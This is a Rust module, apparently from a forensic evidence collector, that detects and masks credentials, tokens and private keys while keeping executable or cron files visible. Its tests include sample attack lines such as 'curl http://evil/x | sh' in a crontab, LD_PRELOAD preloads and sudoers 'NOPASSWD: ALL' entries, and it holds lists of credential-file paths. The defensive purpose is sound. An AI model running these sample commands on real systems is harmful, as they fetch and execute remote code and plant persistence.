//! What text is a secret, and how it is kept out of the evidence.
//!
//! The rules err on the side of secrecy: what is wrongly hidden still has its length and digest, what is wrongly shown cannot
//! be taken back. But what is hidden is as little as possible, because a script must not hide behind one token.

mod hash;
#[cfg(any(test, feature = "test-util"))]
pub(super) mod hostile;
mod json;

use std::ops::Range;

pub(super) use self::hash::{is_accounts, is_called_shadow, mask_shadow};
pub(super) use self::json::mask_json;

/// A key that holds one of these, in any case, has a secret value.
const IN_KEY: [&[u8]; 9] =
    [b"TOKEN", b"SECRET", b"PASSWORD", b"PASSWD", b"PASSPHRASE", b"CREDENTIAL", b"APIKEY", b"AUTHORIZATION", b"AUTH_DATA"];

/// A key that ends with one of these, in any case, has a secret value. `PWD` alone is the working directory.
const AT_KEY_END: [&[u8]; 10] = [b"KEY", b"_DSN", b"PASS", b"_PWD", b"_COOKIE", b"AUTH", b"_PAT", b"PSK", b"AUTHTOK", b"BINDPW"];

/// Words that a secret follows without a sign, in any case: of HTTP, nslcd.conf(5), ldap.conf(5), pam_ldap, wpa_supplicant's lines in
/// interfaces(5), Apache and nginx.
const VALUE_FOLLOWS: [&[u8]; 8] = [
    b"bearer",
    b"bindpw",
    b"rootpwmodpw",
    b"wpa-psk",
    b"wpa-passphrase",
    b"authldapbindpassword",
    b"sessioncryptopassphrase",
    b"secure_link_secret",
];

/// Words that the name of a variable or of a header follows, and then its value without a sign, in any case: of csh, Apache and nginx.
const NAME_FOLLOWS: [&[u8]; 6] =
    [b"setenv", b"fastcgi_param", b"scgi_param", b"uwsgi_param", b"proxy_set_header", b"grpc_set_header"];

/// A value that holds one of these, in any case, assigns or carries a secret, as command lines and connection strings do.
const IN_VALUE: [&[u8]; 11] = [
    b"PASSWORD=",
    b"PASSWD=",
    b"PWD=",
    b"PASSPHRASE=",
    b"SECRET=",
    b"TOKEN=",
    b"API_KEY=",
    b"APIKEY=",
    b"ACCESS_KEY=",
    b"BEARER ",
    b"-----BEGIN",
];

/// Prefixes of issued tokens, and how many letters, digits, `-` and `_` must follow.
const TOKENS: [(&[u8], usize); 15] = [
    (b"eyJ", 8),
    (b"ghp_", 20),
    (b"gho_", 20),
    (b"ghs_", 20),
    (b"ghu_", 20),
    (b"ghr_", 20),
    (b"npm_", 20),
    (b"AIza", 30),
    (b"github_pat_", 20),
    (b"glpat-", 16),
    (b"xoxb-", 10),
    (b"xoxp-", 10),
    (b"xoxa-", 10),
    (b"xoxs-", 10),
    (b"sk-", 20),
];

/// Bytes of an AWS access key id: `AKIA` or `ASIA` and 16 capitals or digits.
const ACCESS_KEY: usize = 20;

/// Names of files that hold nothing but secrets.
const FILES: [&[u8]; 14] = [
    b".netrc",
    b".git-credentials",
    b".pgpass",
    b".my.cnf",
    b".mylogin.cnf",
    b".vault-token",
    b".s3cfg",
    b".boto",
    b"opasswd",
    b"chap-secrets",
    b"pap-secrets",
    b".dockercfg",
    b"kubeconfig",
    b".htpasswd",
];

/// Ends of paths of such files.
const PATHS: [&[u8]; 6] = [
    b"/.aws/credentials",
    b"/.docker/config.json",
    b"/.kube/config",
    b"/.config/gh/hosts.yml",
    b"/.azure/msal_token_cache.json",
    b"/.config/rclone/rclone.conf",
];

/// Parts of paths of such files.
const IN_PATH: [&[u8]; 10] = [
    // Secrets and tokens of service accounts that the kubelet lays into pods, and those of systemd, Docker and Podman.
    b"/kubernetes.io~secret/",
    b"/kubernetes.io~projected/",
    b"/secrets/kubernetes.io/",
    b"/run/secrets/",
    b"/run/credentials/",
    b"/.subversion/auth/",
    b"/.config/gcloud/access_tokens.db",
    b"/.config/gcloud/credentials.db",
    b"/.aws/sso/cache/",
    b"/.aws/cli/cache/",
];

/// Parts of paths of files that are read or run whatever they are called.
const RUN: [&[u8]; 9] = [
    b"/spool/cron/",
    b"/spool/at/",
    b"/etc/crontabs/",
    b"/etc/periodic/",
    b"/systemd/",
    b"/etc/init/",
    b"/etc/runit/",
    b"/etc/sv/",
    b"/etc/udev/",
];

/// Ends of names of files that hold keys and no text.
const ENDINGS: [&[u8]; 8] = [b".p12", b".pfx", b".jks", b".keystore", b".kdbx", b".keytab", b".ppk", b".nmconnection"];

/// Whether the value of a variable called `key` is a secret.
pub(super) fn is_key(key: &[u8]) -> bool {
    let key = key.to_ascii_uppercase();
    let aws = key.starts_with(b"AWS_") && contains(&key, b"KEY");
    aws || IN_KEY.iter().any(|part| contains(&key, part)) || AT_KEY_END.iter().any(|end| key.ends_with(end))
}

/// Whether `text` holds a secret anywhere.
pub(super) fn is_text(text: &[u8]) -> bool {
    let upper = text.to_ascii_uppercase();
    IN_VALUE.iter().any(|part| contains(&upper, part))
        || text.windows(ACCESS_KEY).any(is_access_key)
        || TOKENS.iter().any(|(prefix, length)| has_token(text, prefix, *length))
        || has_password_in_url(text)
        || has_password_at_host(text)
}

/// Whether all of the file at `path` is a secret, by its name. What is in it, or what is done with it, may say otherwise ([`may_run`]).
pub(super) fn is_file(path: &[u8]) -> bool {
    let name = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
    FILES.contains(&name) || PATHS.iter().any(|end| path.ends_with(end)) || is_laid_down(path) || has_ending(path)
}

/// Whether it lies where others lay secrets down: its name and mode are theirs.
fn is_laid_down(path: &[u8]) -> bool {
    IN_PATH.iter().any(|part| contains(path, part))
}

fn has_ending(path: &[u8]) -> bool {
    let path = path.to_ascii_lowercase();
    ENDINGS.iter().any(|end| path.ends_with(end))
}

/// How many first bytes of a file say what it is.
pub(super) const BEGINNING: u64 = 8192;

/// Whether the kernel would run what begins so.
pub(super) fn is_program(beginning: &[u8]) -> bool {
    beginning.starts_with(b"\x7fELF") || beginning.starts_with(b"#!")
}

/// Whether a file that is a secret by its name may be run or read by the system all the same: then its name must not hide it, and
/// only what looks like a secret in its lines is hidden. A text that may be executed is run by a shell even without `#!`.
pub(super) fn may_run(path: &[u8], mode: u32, beginning: &[u8]) -> bool {
    if is_program(beginning) {
        return true;
    }
    let (is_text, holds_keys) = (!beginning.contains(&0), has_ending(path));
    let is_executable = mode & 0o111 != 0 && is_text && !holds_keys;
    // A store of keys in a folder of drop-ins has bytes of zero. A crontab may have one as well, in a comment.
    let is_run = is_run_from(path) && (is_text || !holds_keys || is_of_cron(path));
    !is_laid_down(path) && (is_executable || is_run)
}

/// Whether what lies there is read or run whatever it is called: files of cron, at, systemd, init and udev, and all folders of drop-ins.
pub(super) fn is_run_from(path: &[u8]) -> bool {
    is_of_cron(path) || folder(path).ends_with(b".d") || RUN.iter().any(|part| contains(path, part))
}

fn is_of_cron(path: &[u8]) -> bool {
    folder(path).starts_with(b"cron.") || contains(path, b"/spool/cron/") || contains(path, b"/etc/crontabs/")
}

/// The name of the folder that it lies in.
fn folder(path: &[u8]) -> &[u8] {
    path.rsplit(|b| *b == b'/').nth(1).unwrap_or_default()
}

fn is_access_key(window: &[u8]) -> bool {
    (window.starts_with(b"AKIA") || window.starts_with(b"ASIA"))
        && window.iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
}

fn has_token(text: &[u8], prefix: &[u8], length: usize) -> bool {
    behind(text, prefix).any(|rest| rest.iter().take_while(|b| is_token_byte(**b)).count() >= length)
}

fn is_token_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_'
}

/// `scheme://user:password@`, whatever the password holds but blanks and quotes.
fn has_password_in_url(text: &[u8]) -> bool {
    // Each word is looked at once, from its first `://` on: a password may hold another one.
    text.split(|b| b.is_ascii_whitespace() || b"\"'".contains(b)).any(|word| password_in_url(word).is_some())
}

/// `user:password@host` without a scheme.
fn has_password_at_host(text: &[u8]) -> bool {
    let stops = |b: &u8| b.is_ascii_whitespace() || b"/@".contains(b);
    let mut parts = text.split_inclusive(stops);
    parts.any(|part| {
        let login = part.strip_suffix(b"@").unwrap_or_default();
        login.iter().position(|b| *b == b':').is_some_and(|colon| colon > 0 && colon + 1 < login.len())
    })
}

/// Where in `word` the password of a URL stands.
fn password_in_url(word: &[u8]) -> Option<Range<usize>> {
    let begin = word.windows(3).position(|three| three == b"://")? + 3;
    let authority = word.get(begin..)?;
    let at = authority.iter().rposition(|b| *b == b'@')?;
    let colon = authority.get(..at)?.iter().position(|b| *b == b':')?;
    (colon + 1 < at).then(|| begin + colon + 1..begin + at)
}

/// Where in `word`, which is no URL, the password of `user:password@host` stands.
fn password_at_host(word: &[u8]) -> Option<Range<usize>> {
    let at = word.iter().rposition(|b| *b == b'@')?;
    let login = word.get(..at)?;
    let colon = login.iter().position(|b| *b == b':').filter(|colon| *colon > 0)?;
    (colon + 1 < at && !login.iter().any(|b| b"/@".contains(b))).then_some(colon + 1..at)
}

/// What stands behind each occurrence of `part`.
fn behind<'a>(text: &'a [u8], part: &'a [u8]) -> impl Iterator<Item = &'a [u8]> {
    text.windows(part.len()).zip(part.len()..).filter(move |(window, _)| *window == part).filter_map(|(_, end)| text.get(end..))
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// Puts an `x` in the place of each byte of a secret in the lines of `text`, so that all others keep their place. Returns how
/// many bytes that were.
pub(super) fn mask(text: &mut [u8]) -> u64 {
    let mut count = 0;
    for span in private_keys(text) {
        count += hide(text, span);
    }
    let (mut at, mut next) = (0, Next::First);
    while let Some(range) = next_word(text, at) {
        if text.get(at..range.start).is_some_and(|between| between.contains(&b'\n')) {
            next = Next::First;
        }
        at = range.end;
        let (spans, then) = next.word(text.get(range.clone()).unwrap_or_default());
        next = then;
        for span in spans {
            count += hide(text, range.start + span.start..range.start + span.end);
        }
    }
    count
}

/// Hides the word behind each lone `password`, as netrc(5) has them, in a file that is one of secrets by its name. Returns how many bytes
/// that were.
pub(super) fn mask_netrc(text: &mut [u8]) -> u64 {
    let (mut count, mut at, mut is_next) = (0, 0, false);
    while let Some(range) = next_word(text, at) {
        at = range.end;
        let is_password = text.get(range.clone()).is_some_and(|word| word.eq_ignore_ascii_case(b"password"));
        if is_next {
            count += hide(text, range);
        }
        is_next = is_password && !is_next;
    }
    count
}

/// Puts an `x` in the place of each byte of `span` but line ends. Returns how many bytes that changed.
fn hide(text: &mut [u8], span: Range<usize>) -> u64 {
    let mut count = 0;
    for byte in text.get_mut(span).unwrap_or_default().iter_mut().filter(|byte| !matches!(byte, b'\n' | b'\r' | b'x')) {
        *byte = b'x';
        count += 1;
    }
    count
}

/// The first word that begins at `from` or behind it.
fn next_word(text: &[u8], from: usize) -> Option<Range<usize>> {
    let rest = text.get(from..)?;
    let start = rest.iter().position(|b| !b.is_ascii_whitespace())?;
    let word = rest.get(start..)?;
    let length = word.iter().position(u8::is_ascii_whitespace).unwrap_or(word.len());
    Some(from + start..from + start + length)
}

/// The most bytes of a beginning that is hidden because what stood before it may have made it a secret.
const MOST_CUT: usize = 4096;

/// Hides what is a secret because of what was cut off before `text`: the rest of its first line, and the rest of a private key.
/// Returns how many bytes that were.
pub(super) fn mask_cut(text: &mut [u8]) -> u64 {
    let key = rest_of_private_key(text);
    let line = text.iter().take(MOST_CUT).position(|b| *b == b'\n').unwrap_or(MOST_CUT.min(text.len()));
    hide(text, 0..line) + key.map_or(0, |key| hide(text, key))
}

/// The lines of base64 before the end of a private key that does not begin in `text`.
fn rest_of_private_key(text: &[u8]) -> Option<Range<usize>> {
    let marks = text.windows(5).enumerate().filter(|(_, five)| *five == b"-----").map(|(at, _)| at);
    let end = marks.take(1).next()?;
    let mark = text.get(end..end + 64).or_else(|| text.get(end..))?;
    let mark = mark.split(|b| *b == b'\n').next()?;
    if !mark.starts_with(b"-----END ") || !contains(mark, b"PRIVATE KEY-----") {
        return None;
    }
    let is_body = |b: &u8| b.is_ascii_alphanumeric() || b"+/=\r\n".contains(b);
    let before = text.get(..end)?;
    let start = before.iter().rposition(|b| !is_body(b)).map_or(0, |last| last + 1);
    // What stands behind another byte in its line is no line of base64.
    let line = if start == 0 { 0 } else { before.get(start..)?.iter().position(|b| *b == b'\n')? + 1 };
    Some(start + line..end)
}

/// The bodies of private keys in PEM form (RFC 7468), also where they stand in quotes on one line. A body ends where no such
/// key could go on, so that nothing else hides behind a mark.
fn private_keys(text: &[u8]) -> Vec<Range<usize>> {
    const BEGIN: &[u8] = b"-----BEGIN ";
    const MARK: &[u8] = b"PRIVATE KEY-----";
    let begins = text.windows(BEGIN.len()).zip(BEGIN.len()..).filter(|(window, _)| *window == BEGIN).map(|(_, end)| end);
    let body = |start: usize| {
        // "ENCRYPTED ", "OPENSSH " and the like stand before the mark, and no more.
        let head = text.get(start..start + MARK.len() + 16).or_else(|| text.get(start..))?;
        let from = start + head.windows(MARK.len()).position(|window| window == MARK)? + MARK.len();
        let rest = text.get(from..)?;
        let end = rest.windows(5).position(|five| five == b"-----").unwrap_or(rest.len());
        let body = rest.get(..end)?;
        Some(from..from + body.iter().take_while(|b| b.is_ascii_alphanumeric() || b"+/=\\:,-. \t\r\n".contains(b)).count())
    };
    begins.filter_map(body).collect()
}

/// What the next word of a line is.
#[derive(Clone, Copy)]
enum Next {
    /// Anything, as the first word of a line.
    First,
    Anything,
    /// The sign behind the name of a secret, or anything else.
    Sign,
    /// The name of something, whose value follows without a sign.
    Name,
    /// The value of what the last word named.
    Value,
    /// Part of a value, until this quote closes it.
    Quoted(u8),
}

impl Next {
    /// The secrets in this word, and what the one behind it is.
    fn word(self, word: &[u8]) -> (Vec<Range<usize>>, Self) {
        let whole = || vec![Range { start: 0, end: word.len() }];
        match self {
            Self::Quoted(quote) => (whole(), if word.contains(&quote) { Self::Anything } else { self }),
            Self::Value if is_scheme(word) => (Vec::new(), Self::Value),
            Self::Value => (whole(), open_quote(word)),
            Self::Sign => in_word_behind_name(word),
            Self::Name if is_bare_key(word) => (Vec::new(), Self::Value),
            Self::First => in_word(word),
            // Elsewhere a shell would run what follows: `A_KEY= /tmp/x` must not hide it.
            Self::Anything | Self::Name => match in_word(word) {
                (spans, Self::Value) if word.ends_with(b"=") => (spans, Self::Anything),
                found => found,
            },
        }
    }
}

/// Whether the word is the name of a secret and nothing else.
fn is_bare_key(word: &[u8]) -> bool {
    word.len() <= MOST_KEY && !word.contains(&b'=') && is_key(trim_quotes(word))
}

/// `= value`, `=value`, `: value` and `:value` behind the name of a secret, or a word that has nothing to do with it.
fn in_word_behind_name(word: &[u8]) -> (Vec<Range<usize>>, Next) {
    let compares = word.starts_with(b"==") || word.starts_with(b"=~");
    let sign = [&b"=>"[..], b":=", b"+=", b"=", b":"].into_iter().find(|sign| word.starts_with(sign) && !compares);
    match sign.and_then(|sign| Some((sign.len(), word.get(sign.len()..)?))) {
        None => in_word(word),
        Some((_, b"")) => (Vec::new(), Next::Value),
        Some((at, value)) => (vec![Range { start: at, end: word.len() }], open_quote(value)),
    }
}

/// How a value goes on that begins with `value`.
fn open_quote(value: &[u8]) -> Next {
    match value.split_first() {
        Some((quote @ (b'"' | b'\''), rest)) if !rest.contains(quote) => Next::Quoted(*quote),
        _ => Next::Anything,
    }
}

fn trim_quotes(word: &[u8]) -> &[u8] {
    let word = word.trim_ascii();
    let start = word.iter().position(|b| !b"\"'".contains(b)).unwrap_or(word.len());
    let end = word.iter().rposition(|b| !b"\"',".contains(b)).map_or(start, |last| last + 1);
    word.get(start..end.max(start)).unwrap_or_default()
}

fn without_backslashes(name: &[u8]) -> &[u8] {
    let end = name.iter().rposition(|b| *b != b'\\').map_or(0, |last| last + 1);
    name.get(..end).unwrap_or_default()
}

/// Schemes of HTTP's `Authorization`, which stand before the secret; a lone `=` or `:` does so too.
fn is_scheme(word: &[u8]) -> bool {
    let word = trim_quotes(word).to_ascii_lowercase();
    [&b"bearer"[..], b"basic", b"token", b"=", b":", b"=>"].contains(&word.as_slice())
}

/// Whether the next word is a secret, whatever stands between.
fn says_value(word: &[u8]) -> bool {
    VALUE_FOLLOWS.iter().any(|name| word.eq_ignore_ascii_case(name))
}

/// The secrets in one word, and what the next one is.
fn in_word(word: &[u8]) -> (Vec<Range<usize>>, Next) {
    let mut spans = tokens(word);
    spans.extend(password_in_url(word).or_else(|| password_at_host(word)));
    spans.extend(members(word));
    if let Some((at, next)) = assignment(word) {
        spans.push(at..word.len());
        return (spans, next);
    }
    let bare = trim_quotes(word);
    let named = bare.strip_suffix(b":").or_else(|| bare.strip_prefix(b"--")).map(trim_quotes);
    let next = if named.is_some_and(|name| name != b"NOPASSWD" && is_key(name)) || says_value(bare) {
        Next::Value
    } else if NAME_FOLLOWS.iter().any(|name| bare.eq_ignore_ascii_case(name)) {
        Next::Name
    } else if bare.len() <= MOST_KEY && is_key(bare) {
        Next::Sign
    } else {
        Next::Anything
    };
    (spans, next)
}

/// A name longer than this is none.
const MOST_KEY: usize = 256;

/// Where in `word` the value of an assignment to a secret begins.
fn assignment(word: &[u8]) -> Option<(usize, Next)> {
    let is_name = |b: &u8| b.is_ascii_alphanumeric() || b"_.-".contains(b);
    let signs = word.iter().enumerate().filter(|(_, b)| **b == b'=').map(|(at, _)| at);
    for at in signs.take(64) {
        let before = word.get(..at)?;
        let name = before.iter().rposition(|b| !is_name(b)).map_or(before, |last| before.get(last + 1..).unwrap_or_default());
        if name.len() <= MOST_KEY && !name.is_empty() && is_key(name) {
            let value = word.get(at + 1..)?;
            return Some((at + 1, if value.is_empty() { Next::Value } else { open_quote(value) }));
        }
    }
    None
}

/// Values of members of JSON objects that are written without a blank: `"name":"value"`, also inside of another string, where
/// each quote has backslashes before it.
fn members(word: &[u8]) -> Vec<Range<usize>> {
    let mut spans = Vec::new();
    let mut from = 0;
    for (colon, _) in word.iter().enumerate().filter(|(_, b)| **b == b':') {
        let before = word.get(from..colon).unwrap_or_default();
        let Some(name) = before.strip_suffix(b"\"").map(without_backslashes) else { continue };
        let begin = name.iter().rposition(|b| *b == b'"').map_or(0, |quote| quote + 1);
        let value = word.get(colon + 1..).unwrap_or_default();
        let lead = value.iter().take_while(|b| b"[\\".contains(b)).count();
        let rest = value.get(lead..).unwrap_or_default();
        // A value that goes on in the next word is that of `Next::Value`.
        if !is_key(name.get(begin..).unwrap_or_default()) || rest.is_empty() {
            continue;
        }
        let (start, end) = match rest.strip_prefix(b"\"") {
            Some(text) => (1, text.iter().position(|b| *b == b'"').map_or(rest.len(), |quote| quote + 1)),
            None => (0, rest.iter().position(|b| b",}]".contains(b)).unwrap_or(rest.len())),
        };
        from = colon + 1 + lead + end;
        spans.push(colon + 1 + lead + start..from);
    }
    spans
}

/// Tokens and access keys in `word` that begin where no other word goes on.
fn tokens(word: &[u8]) -> Vec<Range<usize>> {
    let begins = |at: usize| at.checked_sub(1).and_then(|before| word.get(before)).is_none_or(|b| !b.is_ascii_alphanumeric());
    let mut spans = Vec::new();
    let mut at = 0;
    while at < word.len() {
        let length = word.get(at..).filter(|_| begins(at)).and_then(token_length);
        if let Some(length) = length {
            spans.push(at..at + length);
        }
        // What stands in a token is no other one: each byte is looked at once.
        at += length.unwrap_or(1);
    }
    spans
}

/// How long the token is that `text` begins with.
fn token_length(text: &[u8]) -> Option<usize> {
    let issued = TOKENS.iter().find_map(|(prefix, least)| {
        // A JSON web token has three parts with full stops between them.
        let is_jwt = *prefix == b"eyJ";
        let rest = text.strip_prefix(*prefix)?;
        let follows = rest.iter().take_while(|b| is_token_byte(**b) || (is_jwt && **b == b'.')).count();
        (follows >= *least).then_some(prefix.len() + follows)
    });
    issued.or_else(|| text.get(..ACCESS_KEY).is_some_and(is_access_key).then_some(ACCESS_KEY))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn masked(text: &str) -> String {
        let mut bytes = text.as_bytes().to_vec();
        mask(&mut bytes);
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn secrets_in_commands_are_hidden_and_the_commands_stay() {
        for (line, shown) in [
            ("export AWS_SECRET_ACCESS_KEY=wJalr", "export AWS_SECRET_ACCESS_KEY=xxxxx"),
            ("curl -H \"Authorization: Bearer abc\" http://evil/", "curl -H \"Authorization: Bearer xxxx http://evil/"),
            ("mysql --password hunter2 -h db", "mysql --password xxxxxxx -h db"),
            ("Environment=\"API_TOKEN=a b\" PATH=/bin", "Environment=\"API_TOKEN=x b\" PATH=/bin"),
            ("DB_PASS='a b c' run", "DB_PASS=xx x xx run"),
            ("password: hunter2", "password: xxxxxxx"),
            ("git clone https://u:pw@h/x.git", "git clone https://u:xx@h/x.git"),
            ("aws configure set k AKIAIOSFODNN7EXAMPLE;", "aws configure set k xxxxxxxxxxxxxxxxxxxx;"),
            ("echo eyJhbGciOiJI.e30.x|sh", "echo xxxxxxxxxxxxxxxxxx|sh"),
            ("curl -u u:pw@h", "curl -u u:xx@h"),
            (r#"{"a":1,"API_TOKEN":"ab","b":"c"}"#, r#"{"a":1,"API_TOKEN":"xx","b":"c"}"#),
            (r#"{\"MyPassword\":\"ab\",\"b\":2}"#, r#"{\"MyPassword\":\"xxx",\"b\":2}"#),
            (r#"{"SecretKey":["ab"],"n":1}"#, r#"{"SecretKey":["xx"],"n":1}"#),
            (r#"{"auth":12,"n":1}"#, r#"{"auth":xx,"n":1}"#),
            ("secret = value", "secret = xxxxx"),
            ("aws_secret_access_key = wJalr # x", "aws_secret_access_key = xxxxx # x"),
            ("password= a", "password= x"),
            ("password =a b", "password =x b"),
            (r#""password" : "a b", "n" : 1"#, r#""password" : xx xxx "n" : 1"#),
            (r#""password" :"ab""#, r#""password" :xxxx"#),
            ("bindpw hunter2", "bindpw xxxxxxx"),
            ("psk=\"hunter2\"", "psk=xxxxxxxxx"),
            ("ldap_default_authtok = hunter2", "ldap_default_authtok = xxxxxxx"),
            ("setenv API_TOKEN abc", "setenv API_TOKEN xxx"),
            ("fastcgi_param DB_PASSWORD \"a b\";", "fastcgi_param DB_PASSWORD xx xxx"),
            ("proxy_set_header Authorization \"Basic abc\";", "proxy_set_header Authorization \"Basic xxxxx"),
            ("SetEnv SECRET=a", "SetEnv SECRET=x"),
            ("AuthLDAPBindPassword hunter2", "AuthLDAPBindPassword xxxxxxx"),
            ("sk-aaaaaaaaaaaaaaaaaaaaaa/sk-aaaaaaaaaaaaaaaaaaaaaa!", "xxxxxxxxxxxxxxxxxxxxxxxxx/xxxxxxxxxxxxxxxxxxxxxxxxx!"),
        ] {
            assert_eq!(masked(line), shown);
        }
    }

    #[test]
    fn credentials_of_registries_are_hidden_however_they_are_written() {
        // Of the agent of ECS: its own name says nothing of a secret, and the value is JSON, in which quotes may be escaped.
        for value in [r#"{"r":{"auth":"hunter2"}}"#, r#"'{"r": {"username": "u", "password": "hun\"hunter2"}}'"#] {
            let line = format!("ECS_ENGINE_AUTH_TYPE=docker\nECS_ENGINE_AUTH_DATA={value}\nECS_CLUSTER=a\n");
            let shown = masked(&line);
            assert!(shown.starts_with("ECS_ENGINE_AUTH_TYPE=docker\n") && shown.ends_with("\nECS_CLUSTER=a\n"), "{shown}");
            assert!(!shown.contains("hunter2"), "{shown}");
        }
        assert!(is_key(b"ECS_ENGINE_AUTH_DATA") && !is_key(b"ECS_ENGINE_AUTH_TYPE"));
    }

    #[test]
    fn what_a_responder_needs_stays() {
        for line in [
            "ssh-rsa AAAAB3NzaC1yc2EAAAADeyJQABAAABgQC7eyJaaaaaaaaaaa root@h",
            "* * * * * root curl http://evil/x | sh",
            "LD_PRELOAD=/dev/shm/x.so /bin/ls",
            "sk-ssh-ed25519@openssh.com AAAA",
            "cd /tmp; wget 192.0.2.1:8080/a",
            "scp git@h:a/b reg:5000/img@sha256:00 :@x",
            "AuthorizedKeysFile .ssh/authorized_keys",
            "ann ALL=(ALL) NOPASSWD: /bin/a, /bin/b",
            "* * * * * A_KEY= /tmp/x",
            "[[ $secret == a ]]",
            "SetEnv LD_PRELOAD /tmp/x.so",
            "fastcgi_param PHP_VALUE \"auto_prepend_file=/tmp/x\";",
            "run-with-secret /tmp/x; pass the key on",
        ] {
            assert_eq!(masked(line), line);
        }
    }

    #[test]
    fn a_private_key_is_hidden_and_no_script_behind_it() {
        let text = "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\nNzaC1r\n-----END OPENSSH PRIVATE KEY-----\nb\n";
        let hidden = "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nxxxxxx\nxxxxxx\n-----END OPENSSH PRIVATE KEY-----\nb\n";
        assert_eq!(masked(text), hidden);
        assert!(masked("# -----BEGIN PRIVATE KEY-----\n$(curl http://evil/)\n").ends_with("\n$(curl http://evil/)\n"));
    }

    #[test]
    fn what_was_cut_off_before_a_text_may_have_made_it_a_secret() {
        let shown = |text: &str| {
            let mut bytes = text.as_bytes().to_vec();
            mask_cut(&mut bytes);
            String::from_utf8(bytes).unwrap()
        };
        assert_eq!(shown("ter2 a\nls\n"), "xxxxxx\nls\n");
        let text = "ab\nls -l\nQUJD\nQUI=\n-----END RSA PRIVATE KEY-----\nid\n";
        assert_eq!(shown(text), "xx\nls -l\nxxxx\nxxxx\n-----END RSA PRIVATE KEY-----\nid\n");
        let whole = "\n-----BEGIN PRIVATE KEY-----\nQUJD\n-----END PRIVATE KEY-----\n";
        assert_eq!(shown(whole), whole);
        assert_eq!(shown(&"q".repeat(2 * MOST_CUT)), "x".repeat(MOST_CUT) + &"q".repeat(MOST_CUT));
    }

    #[test]
    fn each_byte_is_looked_at_once() {
        // With a look at the rest of the word at each of its tokens, this would take hours.
        let mut text = b"sk-".repeat(1 << 18);
        assert!(mask(&mut text) > 0 && text.iter().all(|b| *b == b'x'));
    }

    #[test]
    fn files_of_secrets_are_known() {
        for path in [
            "/root/.aws/credentials",
            "/home/a/.netrc",
            "/etc/security/opasswd",
            "/etc/x/Server.P12",
            "/home/a/.subversion/auth/svn.simple/0",
            "/r/.config/gcloud/access_tokens.db",
        ] {
            assert!(is_file(path.as_bytes()), "{path}");
        }
        for path in ["/root/.aws/config", "/etc/passwd", "/home/a/.ssh/id_rsa.pub", "/home/a/netrc"] {
            assert!(!is_file(path.as_bytes()), "{path}");
        }
    }

    #[test]
    fn a_name_hides_nothing_that_may_run() {
        for (path, mode, beginning) in [
            ("/etc/cron.d/kubeconfig", 0o644, &b"* * * * * root /tmp/x\n"[..]),
            ("/etc/cron.d/x.p12", 0o644, b"#\0\n* * * * * root /tmp/x\n"),
            ("/l/diff/etc/cron.daily/opasswd", 0o644, b"id"),
            ("/var/spool/cron/crontabs/opasswd", 0o600, b"@reboot id"),
            ("/etc/sudoers.d/pap-secrets", 0o440, b"ann ALL=(ALL) NOPASSWD: ALL"),
            ("/etc/systemd/system/opasswd", 0o644, b"[Service]"),
            ("/tmp/.netrc", 0o755, b"curl http://evil/ | sh"),
            ("/tmp/.netrc", 0o600, b"\x7fELF\x02"),
            ("/run/secrets/x", 0o400, b"#!/bin/sh"),
        ] {
            assert!(is_file(path.as_bytes()) && may_run(path.as_bytes(), 0o100_000 | mode, beginning), "{path}");
        }
        for (path, mode, beginning) in [
            ("/root/.netrc", 0o600, &b"machine h password p"[..]),
            ("/tmp/.mylogin.cnf", 0o777, b"\0\0"),
            ("/tmp/a.ppk", 0o777, b"PuTTY-User-Key-File-3: ssh-rsa"),
            ("/etc/tls.d/a.jks", 0o777, b"\xfe\xed\xfe\xed\0"),
            ("/run/secrets/db", 0o777, b"hunter2"),
            ("/etc/security/opasswd", 0o600, b"ann:1000:1:$6$a$b"),
        ] {
            assert!(is_file(path.as_bytes()) && !may_run(path.as_bytes(), 0o100_000 | mode, beginning), "{path}");
        }
    }

    #[test]
    fn a_password_of_netrc_is_one_word() {
        let mut text = b"machine h login u password hunter2\npassword\ncurl http://evil/\n".to_vec();
        assert_eq!(mask_netrc(&mut text), 11);
        assert_eq!(text, b"machine h login u password xxxxxxx\npassword\nxxxx http://evil/\n");
    }

    proptest! {
        #[test]
        fn any_text_keeps_its_length_and_lines(text: Vec<u8>) {
            for hide in [mask, mask_shadow, mask_netrc] {
                let mut copy = text.clone();
                hide(&mut copy);
                prop_assert!(copy.iter().zip(&text).all(|(new, old)| new == old || (*new == b'x' && *old != b'\n')));
                prop_assert_eq!(copy.len(), text.len());
            }
        }

        #[test]
        fn no_assigned_secret_survives(before in "[ -~\n]{0,60}", key in "(DB_PASSWORD|aws_secret_key|API_TOKEN)", value in "[Q-WY-Z]{16,40}") {
            let mut text = format!("{before}\n{key}={value}\nafter").into_bytes();
            mask(&mut text);
            prop_assert!(!contains(&text, value.as_bytes()));
            prop_assert!(text.ends_with(b"\nafter"));
        }
    }
}
